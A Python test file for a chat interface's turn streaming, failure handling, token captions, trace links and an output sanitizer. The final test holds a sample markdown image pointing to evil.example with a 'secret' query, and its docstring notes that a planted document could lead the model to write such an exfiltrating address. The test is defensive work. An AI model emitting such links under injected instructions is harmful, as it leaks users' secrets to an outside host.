from service.chat_page.client import Answered, Begun, Failed, Piece, Redraft
from service.chat_page.conversation import Conversation, Turn, caption, harmless, trace_link

ANSWER = Answered(
    text="整个答案", sources=("a",), latency_ms=1234, input_tokens=3873, output_tokens=128,
    trace_id="b" * 32,
)  # fmt: skip


def test_a_turn_grows_with_what_comes() -> None:
    """Pieces add up, a redraft voids them, the whole answer replaces them."""
    turn = Turn("问")
    for event in (Begun("a" * 32), Piece("旧"), Redraft(), Piece("新"), Piece("的")):
        turn.take(event)

    assert (turn.text, turn.trace_id, turn.is_open) == ("新的", "a" * 32, True)

    turn.take(ANSWER)
    assert (turn.text, turn.trace_id, turn.is_open) == ("整个答案", "b" * 32, False)


def test_a_failure_keeps_what_had_come() -> None:
    """Half an answer may help; the failure says that it is half."""
    turn = Turn("问")
    turn.take(Piece("half"))
    turn.take(Failed("Too late.", "a" * 32))

    assert (turn.text, turn.trace_id, turn.is_open) == ("half", "a" * 32, False)


def test_conversations_have_ids_of_their_own_that_the_api_takes() -> None:
    ids = {Conversation().session_id for _ in range(100)}

    assert len(ids) == 100
    assert all(each.isalnum() and each.isascii() for each in ids)


def test_time_and_tokens_in_one_line() -> None:
    assert caption(ANSWER) == "1.2 s · 3,873 → 128 tokens"


def test_a_trace_is_a_link_by_setting() -> None:
    """Any page that has the id in its address will do; without an id there is no link."""
    assert trace_link("abc", "https://jaeger.example/trace/{trace_id}?x={y}") == (
        "trace [`abc`](https://jaeger.example/trace/abc?x={y})"
    )
    assert trace_link("", "https://jaeger.example/trace/{trace_id}") == ""


def test_an_answer_loads_no_images() -> None:
    """A planted document could have the model write an address that carries secrets away."""
    assert harmless("see ![x](https://evil.example/?q=secret)") == (
        "see !\\[x](https://evil.example/?q=secret)"
    )
    assert (
        harmless("a [link](https://example.org) and a!") == "a [link](https://example.org) and a!"
    )
